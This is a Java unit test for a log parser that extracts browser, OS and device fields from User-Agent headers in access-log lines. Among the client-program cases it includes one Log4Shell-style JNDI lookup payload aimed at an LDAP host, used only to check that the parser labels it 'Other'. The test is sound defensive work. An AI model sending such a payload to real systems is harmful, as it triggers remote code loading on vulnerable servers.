package io.eventsec.core.ingest.format;

import static io.eventsec.core.ingest.format.FormatFixtures.text;
import static org.assertj.core.api.Assertions.assertThat;

import io.eventsec.core.event.Event;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class UserAgentsTest {
  private static final String MOZILLA = "Mozilla/5.0 ";

  private static Event request(String agent) {
    return text(
        "192.0.2.7 - - [01/Mar/2026:12:00:00 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \""
            + agent
            + "\"");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "(Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.71"
            + " Safari/537.36|Chrome|120.0.6099.71|Windows|10|Other",
        "(Windows NT 6.1) AppleWebKit/537.36 Chrome/109.0.0.0 Safari/537.36 Edg/109.0.1.2|Edge|109.0.1.2|Windows|7|Other",
        "(X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0|Firefox|121.0|Linux||Other",
        "(Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 Version/17.1 Safari/605.1.15|Safari|17.1|Mac OS"
            + " X|10.15.7|Mac",
        "(iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 Version/17.1 Mobile/15E148"
            + " Safari/604.1|Mobile Safari|17.1|iOS|17.1|iPhone",
        "(Linux; Android 13; Pixel 7) AppleWebKit/537.36 Chrome/119.0.0.0 Mobile Safari/537.36|Chrome"
            + " Mobile|119.0.0.0|Android|13|Other",
        "(compatible; Googlebot/2.1; +http://www.google.com/bot.html)|Googlebot|2.1|||Spider",
        "(Windows NT 6.3; Trident/7.0; rv:11.0) like Gecko|IE|11.0|Windows|8.1|Other",
        "(unknown)|Other||||Other"
      })
  void browser_hasNameVersionAndSystem(
      String agent, String name, String version, String system, String number, String device) {
    Event event = request(MOZILLA + agent);

    assertThat(event.value("user_agent.original")).isEqualTo(MOZILLA + agent);
    assertThat(event.value("user_agent.name")).isEqualTo(name);
    assertThat(event.value("user_agent.version")).isEqualTo(version);
    assertThat(event.value("user_agent.os.name")).isEqualTo(system);
    assertThat(event.value("user_agent.os.version")).isEqualTo(number);
    assertThat(event.value("user_agent.device.name")).isEqualTo(device);
  }

  @ParameterizedTest
  @CsvSource({
    "curl/8.5.0, curl, 8.5.0",
    "Go-http-client/1.1, Go-http-client, 1.1",
    "python-requests/2.31.0, Python Requests, 2.31.0",
    "aws-cli/2.15.0 Python/3.11, aws-cli, 2.15.0",
    "${jndi:ldap://192.0.2.8/a}, Other, "
  })
  void program_hasItsOwnName(String agent, String name, String version) {
    Event event = request(agent);

    assertThat(event.value("user_agent.name")).isEqualTo(name);
    assertThat(event.value("user_agent.version")).isEqualTo(version);
  }

  @Test
  void longHeader_isLookedAtInPart() {
    String agent = "Windows NT ".repeat(5_000) + "Chrome/1.0";

    assertThat(request(agent).value("user_agent.name")).isEqualTo("Other");
  }

  @Test
  void withoutAHeader_nothingIsSaid() {
    assertThat(request("-").ecsFields().keySet()).noneMatch(name -> name.startsWith("user_agent"));
  }
}
